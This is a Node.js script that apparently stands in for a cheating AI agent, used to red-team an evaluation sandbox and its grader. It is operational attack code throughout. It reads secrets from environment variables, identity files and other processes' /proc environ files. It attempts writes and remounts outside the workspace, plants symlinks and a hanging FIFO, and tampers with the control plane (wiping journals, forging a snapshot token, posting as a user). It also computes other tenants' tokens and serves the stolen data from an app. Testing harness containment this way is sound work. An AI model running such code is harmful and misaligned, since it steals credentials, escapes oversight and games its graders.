// The cheater agent's body, run with node inside the sandbox: it tries every way it can think of to read what it must not, logs each attempt, and builds an app that serves its loot.

import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  closeSync,
  constants,
  existsSync,
  lstatSync,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  readSync,
  statfsSync,
  statSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { homedir, tmpdir, totalmem } from 'node:os';
import { basename, dirname, join, resolve } from 'node:path';

const FILE_BYTES = 64 * 1024;
const LOOT_BYTES = 2 * 1024 * 1024;
const cwd = process.cwd();
const env = process.env;
const loot = [];
let lootBytes = 0;
const attempts = [];

/** One line per attempt, on stdout (the transcript): `CHEAT-ATTEMPT <what> <path> -> <outcome>`. */
function log(what, path, outcome) {
  const line = `CHEAT-ATTEMPT ${what} ${path || '-'} -> ${outcome}`.replace(/\s*\n\s*/g, ' ');
  attempts.push(line);
  console.log(line);
}

function why(err) {
  const code = err?.code;
  if (code === 'ENOENT' || code === 'ENOTDIR') return 'absent';
  if (code === 'EACCES' || code === 'EPERM') return 'denied';
  if (code === 'EROFS') return 'read-only';
  return `error ${code ?? err?.message ?? err}`;
}

function keep(label, content) {
  if (lootBytes >= LOOT_BYTES) return;
  const text = String(content).slice(0, LOOT_BYTES - lootBytes);
  lootBytes += text.length;
  loot.push(`===== ${label}\n${text}\n`);
}

// The first FILE_BYTES of a file: some files (a process's pagemap, a FIFO) never end, and a whole read would never return.
function head(path) {
  const fd = openSync(path, constants.O_RDONLY | constants.O_NONBLOCK);
  try {
    const buf = Buffer.alloc(FILE_BYTES);
    const n = readSync(fd, buf, 0, FILE_BYTES, null);
    return buf.subarray(0, n).toString('utf8');
  } finally {
    closeSync(fd);
  }
}

/** Reads a file or a folder (recursively, bounded) into the loot; says what it found. */
function grab(path, depth = 3, budget = { files: 200 }) {
  const st = statSync(path);
  if (st.isFile()) {
    keep(path, head(path));
    budget.files--;
    return 1;
  }
  if (!st.isDirectory()) return 0;
  let n = 0;
  for (const name of readdirSync(path)) {
    if (budget.files <= 0 || depth <= 0) break;
    try {
      n += grab(join(path, name), depth - 1, budget);
    } catch (err) {
      budget.failed = why(err); // unreadable entry: keep going, and say so if nothing else was read
    }
  }
  return n;
}

function tryGrab(what, path, depth = 3) {
  try {
    const st = statSync(path);
    if (st.isDirectory() && readdirSync(path).length === 0) return log(what, path, 'empty');
    const budget = { files: 200, failed: undefined };
    const n = grab(path, depth, budget);
    log(what, path, n > 0 ? `found ${n} file(s)` : (budget.failed ?? 'empty'));
  } catch (err) {
    log(what, path, why(err));
  }
}

function ancestors(p) {
  const out = [];
  let d = resolve(p);
  while (true) {
    const up = dirname(d);
    if (up === d) break;
    out.push(up);
    d = up;
  }
  return out;
}

function list(dir) {
  try {
    return readdirSync(dir);
  } catch {
    return [];
  }
}

// Every place the project might be: the usual spots (always tried), and up from here and from any path in the
// environment (tried where something exists).
const usual = [
  '/work/main',
  '/work',
  '/app',
  '/repo',
  '/src',
  '/workspace',
  '/usr/src/app',
  '/opt/twins',
  '/root/twins',
  ...list('/home').map((h) => join('/home', h, 'twins')),
];
const pathValues = Object.entries(env)
  .filter(([k]) => k !== 'PATH')
  .flatMap(([, v]) => String(v).split(':'))
  .filter((v) => v.startsWith('/'));
const derived = [...ancestors(cwd), ...pathValues.flatMap((v) => [v, ...ancestors(v)]), homedir()].filter(
  (r) => r !== '/' && existsSync(r),
);
const roots = new Set([...usual, ...derived]);

// 1. The vault and the reference solutions, wherever a repository might be.
for (const root of roots) {
  tryGrab('vault', join(root, 'scenarios', 'vault'));
  const tasks = join(root, 'harness', 'tasks');
  const ids = list(tasks);
  if (ids.length === 0) {
    tryGrab('references', tasks);
    continue;
  }
  for (const id of ids) tryGrab('reference', join(tasks, id, 'reference'));
}

// 2. The identity: the default file for every home we can name, and whatever the environment points at.
const homes = new Set([homedir(), env.HOME, '/root', ...list('/home').map((h) => join('/home', h))].filter(Boolean));
for (const home of homes) tryGrab('identity', join(home, '.config', 'twins', 'vault-identity.txt'));
if (env.TWINS_VAULT_IDENTITY) tryGrab('identity', env.TWINS_VAULT_IDENTITY);
else log('identity', '$TWINS_VAULT_IDENTITY', 'absent');
const ageKeys = Object.entries(env).filter(([, v]) => String(v).includes('AGE-SECRET-KEY-'));
log('identity', 'environment', ageKeys.length > 0 ? `found ${ageKeys.map(([k]) => k).join(',')}` : 'absent');
for (const [k, v] of ageKeys) keep(`env ${k}`, v);

// 3. Secrets in the environment: anything named like a key, beyond what every agent is given (its own tenant's
// variables, SLACK_* and the like, and the harness's TWINS_* paths).
const given = /^(SLACK|OKTA|JIRA|TWINS)_/;
const secretish = Object.keys(env).filter((k) => /KEY|TOKEN|SECRET|PASS|CREDENTIAL|AUTH|PRIVATE/i.test(k));
const extra = secretish.filter((k) => !given.test(k));
log(
  'env-secrets',
  'environment',
  extra.length > 0
    ? `found ${extra.length}: ${extra.join(',')}`
    : `nothing beyond what it was given${secretish.length > 0 ? ` (${secretish.join(',')})` : ''}`,
);
for (const k of secretish) keep(`env ${k}`, env[k]);

// 4. Other trials' workspaces and the grader's out folder: everything beside this workspace and its parents.
let here = cwd;
for (const up of ancestors(cwd)
  .filter((d) => d !== '/')
  .slice(0, 4)) {
  const siblings = list(up).filter((n) => n !== basename(here));
  if (siblings.length === 0) log('siblings', up, 'empty');
  for (const name of siblings.slice(0, 20)) tryGrab('sibling', join(up, name), 2);
  here = up;
}

// 5. The grader's processes: their environments, command lines and folders, through /proc.
const myEnv = new Set(Object.entries(env).map(([k, v]) => `${k}=${v}`));
const pids = list('/proc').filter((n) => /^\d+$/.test(n) && Number(n) !== process.pid);
let foreignEnv = 0;
let envProcs = 0;
const cwds = new Set();
for (const pid of pids) {
  try {
    const vars = readFileSync(`/proc/${pid}/environ`, 'utf8').split('\0').filter(Boolean);
    const fresh = vars.filter((v) => !myEnv.has(v));
    if (fresh.length > 0) {
      envProcs++;
      foreignEnv += fresh.length;
      keep(`/proc/${pid}/environ`, fresh.join('\n'));
    }
  } catch {
    // not ours to read
  }
  try {
    const dir = readlinkSync(`/proc/${pid}/cwd`);
    if (dir !== '/' && !dir.startsWith(cwd)) cwds.add(dir);
    keep(`/proc/${pid}/cmdline`, readFileSync(`/proc/${pid}/cmdline`, 'utf8').replaceAll('\0', ' '));
  } catch {
    // gone or not ours
  }
}
log(
  'proc-environ',
  `/proc/*/environ (${pids.length} processes)`,
  envProcs > 0 ? `found ${foreignEnv} variable(s) not mine in ${envProcs} process(es)` : 'nothing new',
);
log('proc-cwd', '/proc/*/cwd', cwds.size > 0 ? `found ${[...cwds].slice(0, 5).join(',')}` : 'nothing new');
const ppid = process.ppid;
try {
  const parentEnv = readFileSync(`/proc/${ppid}/environ`, 'utf8')
    .split('\0')
    .filter((v) => v && !myEnv.has(v));
  log('parent-environ', `/proc/${ppid}/environ`, parentEnv.length > 0 ? `found ${parentEnv.length} variable(s) not mine` : 'nothing new');
} catch (err) {
  log('parent-environ', `/proc/${ppid}/environ`, why(err));
}

// 6. Holdouts the grader opened for a run: private folders under /dev/shm and the temp dirs.
for (const dir of new Set(['/dev/shm', tmpdir(), '/tmp', env.TMPDIR].filter(Boolean))) {
  const opened = list(dir).filter((n) => n.startsWith('twins-holdouts-'));
  if (opened.length === 0) log('opened-holdouts', join(dir, 'twins-holdouts-*'), existsSync(dir) ? 'absent' : why({ code: 'ENOENT' }));
  for (const name of opened) tryGrab('opened-holdouts', join(dir, name));
}

// 7. Writing where it must not: the toolbox, the folder around the workspace.
for (const target of ['/opt/twins/bin/.twins-cheat-probe', join(dirname(cwd), '.twins-cheat-probe')]) {
  try {
    writeFileSync(target, 'cheater was here\n');
    unlinkSync(target);
    log('write-outside', target, 'wrote (and removed) a file');
  } catch (err) {
    log('write-outside', target, why(err));
  }
}
if (existsSync('/opt/twins')) {
  const r = spawnSync('mount', ['-o', 'remount,rw,bind', '/opt/twins'], { encoding: 'utf8', timeout: 5000 });
  log(
    'remount',
    '/opt/twins',
    r.status === 0 ? 'wrote: remounted read-write' : `refused ${(r.stderr || r.error?.message || '').trim().split('\n')[0]}`,
  );
}

// 8. Links in the workspace to the secrets, for a grader that follows links when it reads the workspace.
mkdirSync('.cheat-links', { recursive: true });
const plants = {
  identity: join(homedir(), '.config', 'twins', 'vault-identity.txt'),
  'root-identity': '/root/.config/twins/vault-identity.txt',
  vault: '/work/main/scenarios/vault',
  shm: '/dev/shm',
};
for (const [name, target] of Object.entries(plants)) {
  const at = join('.cheat-links', name);
  try {
    if (lstatSync(at, { throwIfNoEntry: false })) unlinkSync(at);
    symlinkSync(target, at);
    log('symlink-plant', `${at} => ${target}`, 'planted (a grader that follows links would read it)');
  } catch (err) {
    log('symlink-plant', at, why(err));
  }
}

// 9. The twins' control plane, reachable over loopback: other tenants and their state.
const origins = new Set(
  Object.values(env)
    .map((v) => /^https?:\/\/[^/\s]+/.exec(String(v))?.[0])
    .filter(Boolean),
);
for (const origin of origins) {
  try {
    const res = await fetch(`${origin}/_twin/tenants`, { signal: AbortSignal.timeout(3000) });
    if (!res.ok) {
      log('twins-control', `${origin}/_twin/tenants`, `refused HTTP ${res.status}`);
      continue;
    }
    const body = await res.json();
    const ids = (body.tenants ?? []).map((t) => t.id);
    keep(`${origin}/_twin/tenants`, JSON.stringify(body).slice(0, FILE_BYTES));
    log('twins-control', `${origin}/_twin/tenants`, `found ${ids.length} tenant(s): ${ids.slice(0, 10).join(',')}`);
  } catch (err) {
    log('twins-control', `${origin}/_twin/tenants`, `error ${err?.cause?.code ?? err?.cause?.message ?? err?.message ?? err}`);
  }
}

// 9b. The grader's own routes with nothing but its own tenant's bot token: undo what a scenario arranged, wipe
// the journal, act as a person, read and restore a snapshot that plants a credential of its choosing.
const ownToken = env.SLACK_BOT_TOKEN ?? '';
async function twinCall(origin, method, path, body, token = ownToken) {
  try {
    const res = await fetch(`${origin}${path}`, {
      method,
      headers: { authorization: `Bearer ${token}`, ...(body ? { 'content-type': 'application/json' } : {}) },
      body: body ? JSON.stringify(body) : undefined,
      signal: AbortSignal.timeout(3000),
    });
    const data = await res.json().catch(() => undefined);
    const ok = res.ok && data !== undefined && data.ok !== false && data.error === undefined;
    return { ok, status: res.status, data };
  } catch (err) {
    return { ok: false, status: 0, error: err?.cause?.code ?? err?.message ?? String(err) };
  }
}
const said = (r) => (r.status ? `refused HTTP ${r.status}` : `error ${r.error}`);
if (ownToken) {
  const t = encodeURIComponent(ownToken);
  for (const origin of origins) {
    const tamper = [
      ['DELETE', `/_twin/faults?tenant=${t}`, undefined, 'disarmed the faults'],
      ['POST', `/_twin/slack/app?tenant=${t}`, { bot_scopes: ['chat:write', 'reactions:write', 'channels:read'] }, 'granted scopes back'],
      ['DELETE', `/_twin/journal?tenant=${t}`, undefined, 'erased the journal'],
      [
        'POST',
        '/_twin/slack/act/message',
        { tenant: ownToken, user: 'alice', channel: '#general', text: 'cheater was here' },
        'posted as a person',
      ],
    ];
    for (const [method, path, body, did] of tamper) {
      const r = await twinCall(origin, method, path, body);
      log('twins-tamper', `${method} ${origin}${path.split('?')[0]}`, r.ok ? `wrote: ${did}` : said(r));
    }
    const snap = await twinCall(origin, 'GET', `/_twin/snapshot?tenant=${t}`);
    const entry = snap.data?.tenants?.[0];
    if (!snap.ok || !entry?.state?.tokens) {
      log('snapshot-plant', `${origin}/_twin/snapshot`, said(snap));
      continue;
    }
    keep(`${origin}/_twin/snapshot`, JSON.stringify(snap.data).slice(0, FILE_BYTES));
    const planted = `xoxb-cheater-${process.pid}`;
    const template = Object.values(entry.state.tokens).find((x) => x?.type === 'bot') ?? { type: 'bot', scopes: [] };
    entry.state.tokens[planted] = { ...template, token: planted };
    const put = await twinCall(origin, 'PUT', `/_twin/snapshot?tenant=${t}`, { twin: 'slack', version: 1, tenants: [entry] });
    const me = await twinCall(origin, 'POST', '/api/auth.test', undefined, planted);
    log(
      'snapshot-plant',
      `${origin}/_twin/snapshot`,
      me.ok ? 'wrote: a planted token authenticates' : put.ok ? 'restored, but the planted token is refused' : said(put),
    );
  }
}

// 9c. Other tenants' credentials, computed the way the twins used to derive them: a hash of the seed and the ordinal.
const MIXED = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
function derive(parts, length, alphabet) {
  let out = '';
  for (let round = 0; out.length < length; round++) {
    for (const b of createHash('sha256')
      .update(`${parts.join(':')}#${round}`)
      .digest()) {
      out += alphabet[b % alphabet.length];
      if (out.length === length) break;
    }
  }
  return out;
}
const digits = (parts, n) => derive(parts, n, '0123456789').replace(/^0/, '1');
const computedToken = (seed, n) =>
  `xoxb-${digits(['slack', seed, n, 'b1'], 13)}-${digits(['slack', seed, n, 'b2'], 13)}-${derive(['slack', seed, n, 'b3'], 24, MIXED)}`;
for (const origin of origins) {
  const reached = [];
  for (let n = 0; n <= 20; n++) {
    const token = computedToken(1, n);
    if (token === ownToken) continue;
    const me = await twinCall(origin, 'POST', '/api/auth.test', undefined, token);
    if (me.ok) {
      reached.push(`${n}:${me.data?.team_id}`);
      keep(`computed token of ordinal ${n} at ${origin}`, token);
    }
  }
  log(
    'computed-credential',
    `${origin} ordinals 0-20`,
    reached.length > 0 ? `found ${reached.length} tenant(s): ${reached.slice(0, 5).join(',')}` : 'refused: none accepted',
  );
}

// 11. What the sandbox shows of the host: paths in the mount table, listeners beyond the twins, uncapped RAM folders.
try {
  // A bind from a disk shows the host path it came from as its root; virtual filesystems (proc, tmpfs…) show their own.
  const VIRTUAL = new Set(['proc', 'tmpfs', 'sysfs', 'devtmpfs', 'devpts', 'mqueue', 'cgroup', 'cgroup2', 'tracefs', 'debugfs']);
  const leaks = readFileSync('/proc/self/mountinfo', 'utf8')
    .split('\n')
    .map((l) => {
      const [left, right = ''] = l.split(' - ');
      const f = left.split(' ');
      return { root: f[3], point: f[4], type: right.split(' ')[0] };
    })
    .filter((m) => m.root && m.root !== '/' && m.root !== m.point && !VIRTUAL.has(m.type))
    .map((m) => `${m.root}=>${m.point}`);
  // The sandbox's own staged copies (its /etc files, the toolbox) name only a temp folder of the harness's; any other
  // source (the repository, a home, a task or vault folder) is the host showing through.
  const STAGED = /^\/tmp\/twins-(sandbox-etc|toolbox)-[^/]+(\/|=>)/;
  const real = leaks.filter((l) => !STAGED.test(l));
  log(
    'mountinfo',
    '/proc/self/mountinfo',
    real.length > 0
      ? `found ${real.length} host path(s): ${real.slice(0, 3).join(',')}`
      : `no host paths${leaks.length > 0 ? ` (only the sandbox's staged copies: ${leaks.length})` : ''}`,
  );
  if (leaks.length > 0) keep('/proc/self/mountinfo host paths', leaks.join('\n'));
} catch (err) {
  log('mountinfo', '/proc/self/mountinfo', why(err));
}
{
  const allowed = new Set([...origins].map((o) => Number(new URL(o).port)).filter(Boolean));
  const ports = new Set();
  for (const f of ['/proc/net/tcp', '/proc/net/tcp6']) {
    try {
      for (const line of readFileSync(f, 'utf8').split('\n').slice(1)) {
        const cols = line.trim().split(/\s+/);
        if (cols[3] === '0A') ports.add(Number.parseInt(cols[1].split(':').pop(), 16));
      }
    } catch {
      // absent in this namespace
    }
  }
  const beyond = [...ports].filter((p) => !allowed.has(p));
  // Without twins named in its environment it has nothing to tell the allowed ports by: it only says what it sees.
  log(
    'listeners',
    '/proc/net/tcp',
    beyond.length === 0
      ? 'none beyond the twins'
      : allowed.size > 0
        ? `found ${beyond.length} listener(s) beyond the twins: ${beyond.slice(0, 8).join(',')}`
        : `sees ${beyond.length} listener(s), and no twins to compare them with`,
  );
}
for (const dir of ['/dev/shm', '/tmp']) {
  try {
    const st = statfsSync(dir);
    const bytes = st.bsize * st.blocks;
    // A tmpfs mounted without a size is half the machine's memory, to the page.
    const uncapped = Math.abs(bytes - totalmem() / 2) < 0.01 * totalmem();
    const mib = Math.round(bytes / 2 ** 20);
    log('tmpfs-cap', dir, uncapped ? `found no cap (${mib} MiB, half the memory)` : `capped at ${mib} MiB`);
  } catch (err) {
    log('tmpfs-cap', dir, why(err));
  }
}

// 12. Carrying something from one trial to the next: a note outside the workspace, and any an earlier trial left.
for (const dir of new Set(['/tmp', '/dev/shm', tmpdir(), homedir()])) {
  const note = join(dir, '.twins-cheater-carry');
  try {
    const earlier = readFileSync(note, 'utf8');
    if (earlier !== cwd) {
      keep(note, earlier);
      log('carry', note, `found a note from another trial (${earlier.slice(0, 80)})`);
      continue;
    }
  } catch {
    // none there yet
  }
  try {
    writeFileSync(note, cwd);
    log('carry', note, 'no note from another trial (left one)');
  } catch (err) {
    log('carry', note, why(err));
  }
}

// 13. Traps for a grader that reads the workspace carelessly, and a usage report no harness should believe.
{
  const r = spawnSync('mkfifo', [join('.cheat-links', 'pipe')], { encoding: 'utf8', timeout: 5000 });
  log(
    'fifo-plant',
    '.cheat-links/pipe',
    r.status === 0 ? 'planted (a grader that opens it would wait forever)' : `refused ${(r.stderr || '').trim()}`,
  );
  try {
    mkdirSync('.twins', { recursive: true });
    writeFileSync('.twins/usage.json', JSON.stringify({ tokens: { input: 1.5, output: 1e300, total: -1 }, costUsd: 'NaN' }));
    log('usage-hostile', '.twins/usage.json', 'planted (fractional, enormous, negative and NaN figures)');
  } catch (err) {
    log('usage-hostile', '.twins/usage.json', why(err));
  }
}

// 10. The holdouts through the toolbox's own runner.
{
  const r = spawnSync('twins', ['run', '--holdouts'], { encoding: 'utf8', timeout: 20_000, env });
  const first =
    `${r.stdout ?? ''}${r.stderr ?? ''}`
      .trim()
      .split('\n')
      .find((l) => l.trim()) ??
    r.error?.message ??
    '';
  log('holdouts', 'twins run --holdouts', r.status === 0 ? `found: ${first}` : `refused ${first}`);
}

// The app: serves everything it found, and answers Slack's URL check so that it starts and is graded.
const found = attempts.filter((a) => /-> (found|wrote)/.test(a)).length;
writeFileSync('stolen.txt', `# What the cheater tried and found\n${attempts.join('\n')}\n\n${loot.join('\n')}`);
writeFileSync(
  'package.json',
  `${JSON.stringify({ name: 'cheater-app', version: '1.0.0', private: true, type: 'module', scripts: { start: 'node server.mjs' } }, null, 2)}\n`,
);
writeFileSync(
  'server.mjs',
  `// The cheater's app: GET / and /stolen.txt serve its loot; Slack's URL check is answered so the app counts as started.
import { createServer } from 'node:http';
import { readFileSync } from 'node:fs';
// While it is graded: the grader's routes with its own bot token (undo faults, wipe the journal, list tenants).
const api = process.env.SLACK_API_URL;
const token = process.env.SLACK_BOT_TOKEN;
if (api && token) {
  const origin = new URL(api).origin;
  const t = encodeURIComponent(token);
  for (const [method, path] of [['DELETE', '/_twin/faults?tenant=' + t], ['DELETE', '/_twin/journal?tenant=' + t], ['GET', '/_twin/tenants']]) {
    fetch(origin + path, { method, headers: { authorization: 'Bearer ' + token }, signal: AbortSignal.timeout(3000) })
      .then((r) => console.error('CHEAT-ATTEMPT app-tamper ' + method + ' ' + path.split('?')[0] + ' -> ' + (r.ok ? 'wrote' : 'refused HTTP ' + r.status)))
      .catch((err) => console.error('CHEAT-ATTEMPT app-tamper ' + method + ' ' + path.split('?')[0] + ' -> error ' + (err?.cause?.code ?? err?.message)));
  }
}
createServer((req, res) => {
  let body = '';
  req.on('data', (c) => { body += c; });
  req.on('end', () => {
    if (req.method === 'GET') { res.setHeader('content-type', 'text/plain'); return res.end(readFileSync('stolen.txt')); }
    try { const j = JSON.parse(body); if (j.type === 'url_verification') { res.setHeader('content-type', 'application/json'); return res.end(JSON.stringify({ challenge: j.challenge })); } } catch {}
    res.end('');
  });
}).listen(Number(process.env.PORT ?? 3000));
`,
);
console.log(`CHEAT-SUMMARY ${attempts.length} attempts, ${found} found something`);
